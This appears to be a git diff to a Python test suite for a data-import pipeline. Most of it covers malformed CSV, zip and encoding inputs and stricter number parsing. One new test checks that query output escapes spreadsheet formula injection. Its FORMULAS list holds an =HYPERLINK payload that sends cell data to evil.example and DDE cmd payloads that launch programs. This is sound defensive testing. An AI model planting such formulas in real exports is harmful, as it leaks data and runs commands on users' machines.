@@ -8,10 +8,15 @@ The files are generated here, a few lines each; nothing large is committed.
 
 from __future__ import annotations
 
+import csv as csv_module
 import hashlib
+import io
 import json
 import os
 import re
+import subprocess
+import sys
+import zipfile
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -22,6 +27,7 @@ import pytest
 from pipeline.build.run import build_database
 from pipeline.commands.fetch import run_fetch
 from pipeline.sources import open_store
+from pipeline.util import paths
 
 WINDOW = "1763000000_1764000000"
 CSV_HEADER = "buyer_country,seller_country,count,year\n"
@@ -105,13 +111,13 @@ CASES: dict[str, Case] = {
     "csv count 1e308": Case(
         "csv",
         [csv(F, GOOD + "USA,PHL,1e308,2019\n", 3)],
-        [(f"{F}:4", "count", "not a number between 0 and 1e12")],
+        [(f"{F}:4", "count", "not a whole count: '1e308' has an exponent")],
         total=160,
     ),
     "csv two rows overflowing to inf": Case(
         "csv",
         [csv(F, "USA,IND,1e308,2019\nUSA,IND,1.7e308,2019\nGBR,PAK,5,2019\n", 3)],
-        [(f"{F}:2", "count", "between 0 and 1e12"), (f"{F}:3", "count", "between 0 and 1e12")],
+        [(f"{F}:2", "count", "'1e308' has an exponent"), (f"{F}:3", "count", "an exponent")],
         total=5,
     ),
     "csv negative count": Case(
@@ -123,7 +129,7 @@ CASES: dict[str, Case] = {
     "csv inf and nan": Case(
         "csv",
         [csv(F, "USA,PHL,inf,2019\nUSA,PHL,nan,2019\n" + GOOD, 4)],
-        [(f"{F}:2", "count", "between 0"), (f"{F}:3", "count", "between 0")],
+        [(f"{F}:2", "count", "not a number: 'inf'"), (f"{F}:3", "count", "not a number: 'nan'")],
         total=160,
     ),
     "csv count that is text": Case(
@@ -190,7 +196,9 @@ CASES: dict[str, Case] = {
     "csv unbalanced quote": Case(
         "csv",
         [csv(F, 'USA,"IND,120,2019\n' + GOOD + "FRA,MAR,4,2019\n", 4)],
-        [(f"{F}:2", None, "broken CSV quoting or bytes (unexpected end of data); lines 2-5")],
+        # the quote never closes: line 2 alone is rejected, lines 3-5 load
+        [(f"{F}:2", None, "broken CSV quoting (unexpected end of data)")],
+        total=164,
     ),
     "csv duplicated header column": Case(
         "csv",
@@ -206,7 +214,11 @@ CASES: dict[str, Case] = {
         "csv",
         [File(F, (CSV_HEADER + GOOD).encode() + b"USA,PH\xffL,4,2019\nFRA,MAR,4,2019\n", 4)],
         [
-            (f"{F}:4", None, "undecodable byte: this line is not UTF-8"),
+            (
+                f"{F}:4",
+                None,
+                "this line is not UTF-8 (an undecodable byte): save the file as UTF-8",
+            ),
         ],
         total=164,
     ),
@@ -241,7 +253,7 @@ CASES: dict[str, Case] = {
                 F, b"buyer_country;seller_country;count;year\nUSA;IND;1,5;2019\nGBR;PAK;2;2019\n", 2
             )
         ],
-        [(f"{F}:2", "count", "not a number between 0 and 1e12")],
+        [(f"{F}:2", "count", "'1,5' has a thousands separator or a decimal comma")],
         total=2,
     ),
     "csv blank lines keep line numbers": Case(
@@ -253,12 +265,13 @@ CASES: dict[str, Case] = {
     "csv UTF-16": Case(
         "csv",
         [File(F, (CSV_HEADER + GOOD).encode("utf-16"), 2)],
-        [(f"{F}:1", "buyer_country", "no buyer_country"), (f"{F}:4", None, "1 columns")],
+        [(F, None, "the file is UTF-16 little-endian text, not UTF-8: save it as UTF-8")],
     ),
     "csv Latin-1 file": Case(
         "csv",
         [File(F, (CSV_HEADER + GOOD + "Côte d'Ivoire,IND,3,2019\n").encode("latin-1"), 3)],
-        [(f"{F}:4", None, "not UTF-8")],
+        # the real reason and the fix, not "fix the spelling"
+        [(f"{F}:4", None, "not UTF-8 (an undecodable byte): save the file as UTF-8")],
         total=160,
     ),
     "csv empty file": Case(
@@ -351,7 +364,7 @@ CASES.update(
                     E16, EMPLOYERS + "2016-06-01,India,India,Writing and translation,1e308\n", 3
                 )
             ],
-            [(f"{E16}:4", "count", "between 0")],
+            [(f"{E16}:4", "count", "'1e308' has an exponent")],
         ),
         "oli counts summing to infinity": Case(
             "oli",
@@ -364,7 +377,7 @@ CASES.update(
                     4,
                 )
             ],
-            [(f"{E16}:4", "count", "between 0"), (f"{E16}:5", "count", "between 0")],
+            [(f"{E16}:4", "count", "an exponent"), (f"{E16}:5", "count", "an exponent")],
         ),
         "oli negative count": Case(
             "oli",
@@ -444,7 +457,11 @@ CASES.update(
                 )
             ],
             [
-                (f"{E16}:4", None, "undecodable byte: this line is not UTF-8"),
+                (
+                    f"{E16}:4",
+                    None,
+                    "this line is not UTF-8 (an undecodable byte): save the file as UTF-8",
+                ),
             ],
         ),
         "oli worker count 1e308": Case(
@@ -470,7 +487,7 @@ CASES.update(
         "remotework count 1e308": Case(
             "remotework",
             [remotework(RW, rw_row(1) + rw_row(2, count="1e308"), 2)],
-            [(f"{RW}:3", "count", "between 0")],
+            [(f"{RW}:3", "count", "'1e308' has an exponent")],
         ),
         "remotework date 2015-13-45": Case(
             "remotework",
@@ -516,7 +533,7 @@ CASES.update(
         "remotework unbalanced quote": Case(
             "remotework",
             [remotework(RW, rw_row(1) + rw_row(2).replace('"2"', '"2'), 2)],
-            [(f"{RW}:3", None, "broken CSV quoting or bytes")],
+            [(f"{RW}:3", None, "broken CSV quoting")],
         ),
         # -- Freelancer pages ---------------------------------------------------------------------
         "freelancer jobs is an object": Case(
@@ -623,6 +640,183 @@ CASES.update(
 )
 
 
+def _zip(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def oli_workers(name: str, body: str, rows: int, **kw) -> File:
+    return File(name, (OLI_WORKERS + body).encode(), rows, **kw)
+
+
+W17 = "worker_countrydata_2017-07-05.txt"
+SEMICOLONS = "buyer_country;seller_country;count;year\nUSA;IND;120;2019\nGBR;PAK;40;2019\n"
+
+# Round three: files that lie about themselves (a signature inside, another encoding, an
+# archive in an archive), a quote that never closes, numbers written as people write them.
+CASES.update(
+    {
+        # -- a quote that never closes rejects its own line; the lines after it load --------
+        "csv unclosed quote mid-file, the rows after it load": Case(
+            "csv",
+            [csv(F, GOOD + 'FRA,"MAR,4,2019\n' + "DEU,TUR,5,2019\nESP,MAR,6,2019\n", 5)],
+            [(f"{F}:4", None, "broken CSV quoting (unexpected end of data): a quote that")],
+            total=160 + 5 + 6,
+        ),
+        "csv unclosed quote on the last line": Case(
+            "csv",
+            [csv(F, GOOD + 'FRA,MAR,4,"2019\n', 3)],
+            [(f"{F}:4", None, "this line alone is rejected")],
+            total=160,
+        ),
+        "csv a quote that closes spans lines, a stray one does not": Case(
+            "csv",
+            [csv(F, '"United States\n",IND,1,2019\nGBR,"PAK,2,2019\nFRA,MAR,3,2019\n', 3)],
+            [(f"{F}:4", None, "broken CSV quoting")],
+            total=1 + 3,
+        ),
+        "remotework a quote closing mid-field rejects one line": Case(
+            "remotework",
+            [remotework(RW, rw_row(1) + rw_row(2).replace('"Delhi"', '"Delhi') + rw_row(3), 3)],
+            [(f"{RW}:3", None, "broken CSV quoting")],
+            total=6,
+        ),
+        "oli unclosed quote mid-file": Case(
+            "oli",
+            [
+                oli_employers(
+                    E16,
+                    EMPLOYERS
+                    + '2016-06-01,"India,India,Writing and translation,3\n'
+                    + "2016-06-02,India,India,Writing and translation,4\n",
+                    4,
+                )
+            ],
+            [(f"{E16}:4", None, "broken CSV quoting")],
+        ),
+        # -- archives by their leading bytes only ---------------------------------------------
+        "csv end-of-zip signature in a cell near the end": Case(
+            "csv",
+            [csv(F, GOOD + "PK\x05\x06land,IND,4,2019\nFRA,MAR,4,2019\nDEU,TUR,5,2019\n", 5)],
+            [(f"{F}:4", "buyer_country", "unknown country")],
+            total=160 + 4 + 5,
+        ),
+        "remotework zip signatures in cells": Case(
+            "remotework",
+            [
+                remotework(
+                    RW,
+                    rw_row(1)
+                    + rw_row(2).replace("California", "PK\x03\x04")
+                    + rw_row(3).replace("Delhi", "PK\x05\x06" + "x" * 30),
+                    3,
+                )
+            ],
+            total=9,
+        ),
+        "oli zip inside a zip": Case(
+            "oli",
+            [
+                File(
+                    E16 + ".zip",
+                    _zip({"inner.zip": _zip({E16: (OLI_EMPLOYERS + EMPLOYERS).encode()})}),
+                    2,
+                )
+            ],
+            [(E16 + ".zip", None, "holds another archive (a zip file): extract it and import")],
+        ),
+        "csv zip inside a zip": Case(
+            "csv",
+            [File(F, _zip({"flows.zip": _zip({F: (CSV_HEADER + GOOD).encode()})}), 2)],
+            [(F, None, "the archive holds another archive (a zip file)")],
+        ),
+        # -- encodings and Excel's first line ------------------------------------------------
+        "csv UTF-16 big-endian": Case(
+            "csv",
+            [File(F, (CSV_HEADER + GOOD).encode("utf-16-be"), 2)],
+            [(F, None, "UTF-16 big-endian text, not UTF-8: save it as UTF-8")],
+        ),
+        "csv UTF-16 big-endian with a BOM": Case(
+            "csv",
+            [File(F, ("\ufeff" + CSV_HEADER + GOOD).encode("utf-16-be"), 2)],
+            [(F, None, "iconv -f UTF-16BE -t UTF-8")],
+        ),
+        "csv Excel's sep=; first line": Case(
+            "csv",
+            [File(F, ("sep=;\n" + SEMICOLONS + "XXX;IND;1;2019\n").encode(), 3)],
+            [(f"{F}:5", "buyer_country", "unknown country 'XXX'")],
+            total=160,
+        ),
+        "remotework sep=; it does not read": Case(
+            "remotework",
+            [File(RW, b"sep=;\n" + REMOTEWORK_HEADER.replace(",", ";").encode(), 0)],
+            [(RW, None, "declares the delimiter ';', which this source does not read")],
+        ),
+        "csv misspelled headers": Case(
+            "csv",
+            [File(F, b"buyer_contry,seller_country,count,yaer\nUSA,IND,1,2019\n", 1)],
+            [(f"{F}:1", "buyer_country", "no buyer_country (did you mean 'buyer_contry'?")],
+        ),
+        # -- a strict number grammar ---------------------------------------------------------
+        "csv European thousands separator": Case(
+            "csv",
+            [csv(F, GOOD + "USA,PHL,1.234,2019\n", 3)],
+            [(f"{F}:4", "count", "'1.234' reads as a number with a thousands separator (1234)")],
+            total=160,
+        ),
+        "csv underscore, signed zero, fraction, exponent": Case(
+            "csv",
+            [
+                csv(
+                    F,
+                    GOOD + "USA,PHL,1_000,2019\nUSA,BGD,-0,2019\nUSA,NPL,2.5,2019\n"
+                    "USA,LKA,1e3,2019\n",
+                    6,
+                )
+            ],
+            [
+                (f"{F}:4", "count", "'1_000' holds '_'"),
+                (f"{F}:5", "count", "'-0' is a signed zero: write 0"),
+                (f"{F}:6", "count", "'2.5' has a fraction; this column counts whole projects"),
+                (f"{F}:7", "count", "'1e3' has an exponent"),
+            ],
+            total=160,
+        ),
+        "remotework fractional and separated counts": Case(
+            "remotework",
+            [remotework(RW, rw_row(1) + rw_row(2, count="1.234") + rw_row(3, count="2.5"), 3)],
+            [
+                (f"{RW}:3", "count", "thousands separator (1234)"),
+                (f"{RW}:4", "count", "has a fraction"),
+            ],
+            total=3,
+        ),
+        "oli whole employer counts, fractional worker counts": Case(
+            "oli",
+            [
+                oli_employers(
+                    E16, EMPLOYERS + "2016-06-01,India,India,Writing and translation,1.234\n", 3
+                ),
+                oli_workers(
+                    W17,
+                    "2017-06-16,India,Writing and translation,20.5,0\n"
+                    "2017-06-16,India,Software development and technology,1.234,0\n"
+                    '2017-06-17,India,Writing and translation,"1,5",0\n',
+                    3,
+                ),
+            ],
+            [
+                (f"{E16}:4", "count", "'1.234' reads as a number with a thousands separator"),
+                (f"{W17}:4", "num_workers", "'1,5' has a thousands separator or a decimal comma"),
+            ],
+        ),
+    }
+)
+
+
 @pytest.fixture()
 def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setenv("ATLAS_RAW", str(tmp_path / "raw"))
@@ -654,16 +848,8 @@ def import_all(case: Case, root: Path) -> None:
 
 def rejected_lines(name: str, rejects: list[tuple]) -> set[str]:
     """The records of one file that have a reject ("name:line" or "name:projects[i]"); a
-    broken quote's reject names the lines it swallowed ("lines 2-5 not read as rows")."""
-    out: set[str] = set()
-    for location, _, reason in rejects:
-        if not location.startswith(name + ":"):
-            continue
-        out.add(location)
-        span = re.search(r"lines (\d+)-(\d+) not read", reason)
-        if span:
-            out.update(f"{name}:{n}" for n in range(int(span[1]), int(span[2]) + 1))
-    return out
+    quote that does not close rejects its own line only, so every reject is one record."""
+    return {location for location, _, _ in rejects if location.startswith(name + ":")}
 
 
 def staged_rows(source: str, staging: Path, rejected: set[str]) -> dict[str, int]:
@@ -854,3 +1040,92 @@ def test_a_folder_given_once_with_a_table_and_its_later_corrected_copy_loads_the
     finally:
         con.close()
     assert total == (52.0,)
+
+
+def _cli(root: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
+    done = subprocess.run(
+        [sys.executable, "-m", "pipeline", *args],
+        cwd=paths.ROOT,
+        env={
+            **os.environ,
+            "ATLAS_RAW": str(root / "raw"),
+            "ATLAS_STAGING": str(root / "staging"),
+            "ATLAS_DB": str(root / "db" / "atlas.duckdb"),
+            **env,
+        },
+        capture_output=True,
+        timeout=300,
+    )
+    # decoded as written: a carriage return inside a cell stays one
+    return subprocess.CompletedProcess(
+        done.args, done.returncode, done.stdout.decode(), done.stderr.decode()
+    )
+
+
+@pytest.mark.bad_input
+def test_a_file_with_misspelled_headers_is_quarantined_in_every_summary(root: Path) -> None:
+    """Before, the build's summary called it quarantined and, a few lines below, `loaded`."""
+    given = root / "given" / F
+    given.parent.mkdir(parents=True)
+    given.write_text("buyer_contry,seller_country,count,yaer\nUSA,IND,1,2019\nGBR,PAK,2,2019\n")
+    fetched = _cli(root, "fetch", "csv", "--from", str(given))
+    built = _cli(root, "db")
+    listed = _cli(root, "raw")
+    for done in (fetched, built, listed):
+        assert done.returncode == 0, done.stderr
+        mentions = [line for line in done.stdout.splitlines() if F in line]
+        assert mentions and not any(re.search(r"\bloaded\b.*" + F, m) for m in mentions), mentions
+        assert any("quarantined" in m for m in mentions), mentions
+        assert "did you mean 'buyer_contry'? rename it to buyer_country" in done.stdout
+        assert "did you mean 'yaer'? rename it to year" in done.stdout
+    assert "raw files of csv: 0 loaded, 1 quarantined" in fetched.stdout
+    assert "raw files of csv: 0 loaded, 1 quarantined" in built.stdout
+    assert "csv: 2 records read, 0 loaded, 2 rejected" in built.stdout
+
+
+# Cells a spreadsheet would run as a formula (OWASP "CSV Injection"), and numbers that must stay
+# numbers; make query FORMAT=csv writes each as text a spreadsheet shows.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "=cmd|' /C notepad'!'A1'",
+]
+
+
+@pytest.mark.bad_input
+def test_make_query_csv_writes_no_cell_a_spreadsheet_would_run(root: Path) -> None:
+    """Before, `make query FORMAT=csv` printed `=HYPERLINK(…)` and `@SUM(…)` as they were."""
+    given = root / "given" / F
+    given.parent.mkdir(parents=True)
+    with given.open("w", newline="", encoding="utf-8") as handle:
+        out = csv_module.writer(handle)
+        out.writerow(["buyer_country", "seller_country", "count", "year", "platform"])
+        for n, platform in enumerate(FORMULAS, start=1):
+            out.writerow(["USA", "IND", n, 2019, platform])
+    assert _cli(root, "fetch", "csv", "--from", str(given)).returncode == 0
+    assert _cli(root, "db").returncode == 0
+    query = (
+        "select platform, sum(amount) as projects, -sum(amount) as negative, "
+        "chr(9) || '=1+1' as tab, chr(13) || '=1+1' as cr, '-4' as minus_text "
+        "from core__tallies where source_id = 'csv' group by platform order by projects"
+    )
+    done = _cli(root, "query", Q=query, FORMAT="csv")
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.endswith("\r\n")
+    rows = list(csv_module.reader(io.StringIO(done.stdout, newline="")))
+    assert rows[0] == ["platform", "projects", "negative", "tab", "cr", "minus_text"]
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
+    # numbers stay numbers, a negative one too
+    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
+        (f"{n}.0", f"-{n}.0", "-4") for n in range(1, 6)
+    ]
+    assert {(r[3], r[4]) for r in rows[1:]} == {("'\t=1+1", "'\r=1+1")}
+    injections = [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-[0-9.]+", cell)
+    ]
+    assert injections == []
